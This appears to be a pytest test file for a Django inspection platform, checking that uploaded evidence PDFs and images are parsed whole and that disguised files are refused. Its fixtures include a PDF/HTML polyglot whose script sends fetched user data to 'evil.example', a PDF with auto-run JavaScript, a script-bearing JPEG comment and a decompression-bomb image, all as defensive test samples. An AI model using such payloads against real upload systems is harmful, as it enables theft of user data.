"""Evidence files were judged by their first bytes: "%PDF-1.4" followed by a web page passed
as a PDF (issue 18 §4). Every file is now parsed whole (pypdf, Pillow) before it is kept."""

import io

import pytest
import weasyprint
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from shuangsuiji.inspections import services
from shuangsuiji.inspections.models import Evidence
from shuangsuiji.rules.errors import RuleError
from shuangsuiji.rules.results import check_evidence_content
from tests.inspections.conftest import drawn_task, private_files  # noqa: F401
from tests.inspections.test_results import jpeg, png

pytestmark = pytest.mark.django_db

POLYGLOT = (b"%PDF-1.4\n<html><body><script>fetch('/api/v1/users/').then(r => r.text())"
            b".then(t => location = 'http://evil.example/?' + btoa(t))</script></body></html>\n"
            b"%%EOF\n")


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def real_pdf() -> bytes:
    """A record printed the way the platform prints its own (WeasyPrint), Chinese text."""
    return weasyprint.HTML(string="<h1>现场检查记录</h1><p>防护门密闭良好。</p>").write_pdf()


def blank_pdf(**changes) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    for key, value in changes.items():
        writer._root_object[NameObject(key)] = value
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def script_pdf() -> bytes:
    return blank_pdf(**{"/OpenAction": DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.launchURL('http://evil.example');")})})


def photo() -> bytes:
    """A JPEG with some real scan data (noise), 400 × 300."""
    out = io.BytesIO()
    Image.effect_noise((400, 300), 60).convert("RGB").save(out, "JPEG")
    return out.getvalue()


def jpeg_with_markup() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20)).save(out, "JPEG", comment=b"<script>alert(1)</script>")
    return out.getvalue()


def add(world, drawn_task, name: str, data: bytes, kind: str = "document"):  # noqa: F811
    return services.evidence_add(actor=world.users["inspector"],
                                 inspection=drawn_task.office_result,
                                 upload=SimpleUploadedFile(name, data), kind=kind)


@pytest.mark.parametrize(("name", "data", "reason"), [
    ("检查记录.pdf", POLYGLOT, "web page markup"),
    ("检查记录.pdf", b"%PDF-1.4\n" + b"\x00" * 200 + b"\n%%EOF\n", "not a readable PDF"),
    ("检查记录.pdf", real_pdf()[:-400], "not a readable PDF"),
    ("加密.pdf", encrypted_pdf(), "Encrypted"),
    ("脚本.pdf", script_pdf(), "scripts"),
    ("现场照片.png", png()[:-200], "cannot be read"),
    ("现场照片.png", png()[:len(png()) // 2], "cannot be read"),
    ("现场照片.jpg", photo()[:len(photo()) // 2], "cannot be read"),
    ("现场照片.jpg", jpeg_with_markup(), "web page markup"),
])
def test_it_refuses_what_only_looks_like_a_document(world, drawn_task, name, data,  # noqa: F811
                                                    reason):
    with pytest.raises(ValidationError, match=reason):
        add(world, drawn_task, name, data)
    assert not Evidence.objects.exists()


@pytest.mark.parametrize(("name", "data", "mime"), [
    ("检查记录.pdf", real_pdf(), "application/pdf"),
    ("空白页.pdf", blank_pdf(), "application/pdf"),
    ("现场照片.png", png(), "image/png"),
    ("现场照片.jpg", jpeg(), "image/jpeg"),
    ("现场照片.jpg", photo(), "image/jpeg"),
])
def test_it_accepts_real_documents_and_photos(world, drawn_task, name, data,  # noqa: F811
                                              mime):
    evidence = add(world, drawn_task, name, data, kind="photo" if mime != "application/pdf"
                   else "document")
    assert evidence.content_type == mime and evidence.size == len(data)


def test_the_polyglot_is_refused_on_the_page_with_the_reason_in_chinese(
        world, drawn_task, client):  # noqa: F811
    from django.urls import reverse

    client.force_login(world.users["inspector"])
    url = reverse("inspections:evidence_upload", args=[drawn_task.office_result.pk])
    file = io.BytesIO(POLYGLOT)
    file.name = "检查记录.pdf"
    with translation.override("zh-hans"):
        response = client.post(url, {"kind": "document", "file": file},
                               HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.status_code == 400
    assert "网页代码" in response.content.decode()
    assert not Evidence.objects.exists()


def test_a_decompression_bomb_image_is_refused():
    out = io.BytesIO()
    Image.new("1", (10_000, 6_000)).save(out, "PNG")  # 60 megapixels in a few kilobytes
    with pytest.raises(RuleError, match="million pixels"):
        check_evidence_content("image/png", out.getvalue())
